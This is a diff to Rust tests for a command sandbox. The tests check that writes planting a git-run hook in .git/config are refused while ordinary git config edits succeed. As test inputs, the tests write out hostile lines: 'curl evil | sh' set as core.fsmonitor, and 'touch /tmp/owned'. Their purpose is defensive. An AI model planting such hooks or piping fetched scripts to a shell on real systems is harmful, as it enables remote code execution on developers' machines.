@@ -207,7 +207,20 @@ fn writes_outside_the_workspace_are_refused() {
 fn git_internals_stay_read_only_and_planted_project_files_are_swept() {
     for engine in engines() {
         let fx = fixture();
-        attack(&fx, engine, &[], "echo 'curl evil | sh' >> .git/config").assert_failed();
+        // The command sees a staged copy of the git dir's top level (`workspace::gitstage`):
+        // its change to the config is judged after the run, and this one never reaches the
+        // host's.
+        let out = attack(
+            &fx,
+            engine,
+            &[],
+            "printf '[core]\\n\\tfsmonitor = curl evil | sh\\n' >> .git/config",
+        );
+        assert!(
+            out.run.stderr.contains("protected path refused"),
+            "{:?}",
+            out.run
+        );
         assert!(!attacks::read_text(&fx.ws.join(".git/config"))
             .unwrap_or_default()
             .contains("evil"));
@@ -367,6 +380,59 @@ fn no_network_no_capabilities_no_engine_socket() {
                 .run()
                 .assert_success();
         }
+    }
+}
+
+/// Everyday git config writes work (git renames `config.lock` over the config, which a
+/// read-only bind of it refused with EBUSY): the command sees a staged copy of the git dir's
+/// top level and an inert change comes back after the run; a change that sets a key git
+/// runs is refused whole, the host's config unchanged. Control: the same live key set on the
+/// host is taken by git (the refusal is the judge's, not git's).
+#[test]
+fn everyday_git_config_writes_work_and_a_live_key_is_refused_whole() {
+    for engine in engines() {
+        let fx = fixture();
+        let git = |args: &str| {
+            fx.host(&format!("git -c safe.directory='*' {args}"))
+                .run()
+                .assert_success()
+                .stdout
+                .trim()
+                .to_owned()
+        };
+        attack(
+            &fx,
+            engine,
+            &[],
+            "git config user.name Inside && git remote add mirror https://example.invalid/x.git \
+             && git config branch.main.remote mirror",
+        )
+        .assert_ok();
+        assert_eq!(git("config --get user.name"), "Inside");
+        assert_eq!(
+            git("config --get remote.mirror.url"),
+            "https://example.invalid/x.git"
+        );
+        assert_eq!(git("config --get branch.main.remote"), "mirror");
+        let config = fx.ws.join(".git/config");
+        let before = attacks::read_text(&config).expect("config");
+        let out = attack(
+            &fx,
+            engine,
+            &[],
+            "git config user.email in@side && git config core.fsmonitor 'touch /tmp/owned'",
+        );
+        out.assert_ok();
+        assert!(
+            out.run.stderr.contains("protected path refused"),
+            "{:?}",
+            out.run
+        );
+        assert_eq!(attacks::read_text(&config).expect("config"), before);
+        assert!(fx.ws.join(".git/config.stockade-refused").exists());
+        // Control: git itself takes the key (set on the host).
+        git("config core.fsmonitor 'touch /tmp/owned'");
+        assert_eq!(git("config --get core.fsmonitor"), "touch /tmp/owned");
     }
 }
 
